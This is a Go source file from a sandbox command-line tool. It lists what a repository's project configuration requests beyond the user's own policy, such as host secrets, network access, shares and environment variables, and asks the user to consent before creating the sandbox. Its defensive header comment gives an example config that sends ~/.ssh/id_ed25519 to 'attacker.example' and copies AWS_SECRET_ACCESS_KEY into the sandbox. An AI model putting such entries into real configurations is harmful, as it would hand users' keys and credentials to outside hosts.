package cli

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"

	"golang.org/x/term"

	"moat.dev/moat/internal/config"
	"moat.dev/moat/internal/netstack"
	"moat.dev/moat/internal/roles"
)

// projectAsks lists what a project file (a moat.toml that came with a
// repository, not the user's own config.toml) asks for that reaches
// beyond what the user's own policy gives a sandbox. A repository must not
// be able to widen the user's policy, nor read host files outside the
// workspace, without the user's consent (threat model 29):
//
//   - secrets read the host's environment, files or commands and send the
//     result to hosts the file names (from = "file:~/.ssh/id_ed25519" with
//     hosts = ["attacker.example"] would hand the key over; "command:"
//     runs on the host);
//   - network.trust makes the gate accept roots the file names;
//   - network.allow, network.use and mode = "report" let the sandbox reach
//     more (a project layer is above the user's, so its allow beats the
//     user's block);
//   - shares mount host paths; files copy host files in from outside the
//     workspace; [env] entries that read host variables copy their values
//     in (AWS_SECRET_ACCESS_KEY = "${AWS_SECRET_ACCESS_KEY}");
//   - forwards.reverse opens a port of the host's loopback to the guest
//     (forwards.ports are not asked: the host listens, for the user).
//
// Hooks are not listed: they run inside the sandbox, with nothing the
// sandbox could not do by itself.
func projectAsks(cfg config.Config, userConfig string) []string {
	theirs := func(src string) bool { return src != userConfig && src != "" }
	var out []string
	for _, s := range cfg.Secrets {
		if !theirs(s.Source) {
			continue
		}
		out = append(out, fmt.Sprintf("%s: secret %s reads %s on the host and sends it to %s",
			s.Source, s.Name, s.From, strings.Join(s.Hosts, ", ")))
	}
	sort.Strings(out) // secrets first, by file and name; the rest in file order
	for _, l := range cfg.Network.Layers {
		if !theirs(l.Source) {
			continue
		}
		if len(l.Trust) > 0 {
			out = append(out, fmt.Sprintf("%s: network.trust makes the gate accept upstream certificates signed by %s",
				l.Source, strings.Join(l.Trust, ", ")))
		}
		if len(l.Allow) > 0 {
			out = append(out, fmt.Sprintf("%s: network.allow lets the sandbox reach %s", l.Source, clipList(l.Allow, 12)))
		}
		var named []string
		for _, u := range l.Use {
			if u != "default" && u != "none" {
				named = append(named, u)
			}
		}
		if len(named) > 0 {
			out = append(out, fmt.Sprintf("%s: network.use adds the named policies %s", l.Source, strings.Join(named, ", ")))
		}
		if l.Mode == config.ModeReport {
			out = append(out, fmt.Sprintf("%s: network.mode = \"report\" lets through everything the policy would deny", l.Source))
		}
	}
	for _, s := range config.SortedMCP(cfg.Network.MCP) {
		// A command server runs in the sandbox, like a hook: not asked.
		if theirs(s.Source) && s.URL != "" {
			what := "any tool"
			if len(s.Tools) == 0 {
				what = "no tool"
			} else if !slices.Contains(s.Tools, "*") {
				what = "the tools " + clipList(s.Tools, 12)
			}
			where := "MCP server " + s.URL
			if s.Local {
				where = "the MCP server on this host's " + s.URL
			}
			out = append(out, fmt.Sprintf("%s: mcp.%s lets the agent use %s, %s", s.Source, s.Name, where, what))
		}
	}
	for _, f := range cfg.Forwards.Reverse {
		// The one way from the guest to the host's own services (a
		// database, an editor's server, a Docker API on a port): the
		// user's to open.
		if theirs(f.Source) {
			out = append(out, fmt.Sprintf("%s: forwards.reverse lets the sandbox reach port %d on this host's loopback (at %s:%d inside)",
				f.Source, f.Host, netstack.Gateway, f.Guest))
		}
	}
	for _, src := range cfg.SSHAgent.Sources {
		if theirs(src) {
			out = append(out, fmt.Sprintf("%s: ssh_agent lets the sandbox sign with your ssh-agent's keys %s", src, strings.Join(cfg.SSHAgent.Keys, ", ")))
		}
	}
	for _, sh := range cfg.Shares {
		if !theirs(sh.Source) {
			continue
		}
		how := "read-only"
		if sh.RW {
			how = "read-write"
		}
		out = append(out, fmt.Sprintf("%s: shares host path %s at %s, %s", sh.Source, sh.Path, sh.Target, how))
	}
	for _, f := range cfg.Files {
		if !theirs(f.Origin) || roles.Within(f.Source, filepath.Dir(f.Origin)) {
			continue
		}
		out = append(out, fmt.Sprintf("%s: files copies host file %s into the guest at %s", f.Origin, f.Source, f.Target))
	}
	for _, e := range cfg.EnvVars {
		if !theirs(e.Source) {
			continue
		}
		switch {
		case e.Pass:
			out = append(out, fmt.Sprintf("%s: env %s copies the host's $%s into the sandbox", e.Source, e.Name, e.Name))
		case strings.Contains(e.Value, "${"):
			out = append(out, fmt.Sprintf("%s: env %s = %q reads host variables into the sandbox", e.Source, e.Name, e.Value))
		}
	}
	return out
}

// clipList joins at most n entries and says how many more there are.
func clipList(l []string, n int) string {
	if len(l) <= n {
		return strings.Join(l, ", ")
	}
	return fmt.Sprintf("%s and %d more", strings.Join(l[:n], ", "), len(l)-n)
}

// errNotAccepted is returned when the user declines a project's requests.
var errNotAccepted = errors.New("not created: the project's configuration was not accepted")

// consent asks the user to accept what the project file asks for, on a
// terminal; elsewhere it needs --trust-project. The sandbox snapshots its
// configuration at create, so consent is asked once per sandbox, and
// again only after `moat destroy`.
func (e *env) consent(cfg config.Config) error {
	asks := projectAsks(cfg, e.dirs.UserConfig())
	if len(asks) == 0 || e.trustProject {
		return nil
	}
	list := "    " + strings.Join(asks, "\n    ")
	if !term.IsTerminal(int(os.Stdin.Fd())) {
		return codef(ExitUsage, "the project's configuration asks for more than a sandbox:\n%s\n"+
			"read it, then accept with --trust-project (moat run --trust-project ...), or move these entries to %s",
			list, e.dirs.UserConfig())
	}
	fmt.Fprintf(os.Stderr, "The project's configuration asks for more than a sandbox:\n%s\nAccept? [y/N] ", list)
	var answer string
	fmt.Scanln(&answer)
	if a := strings.ToLower(answer); a != "y" && a != "yes" {
		return withCode(ExitUsage, errNotAccepted)
	}
	return nil
}
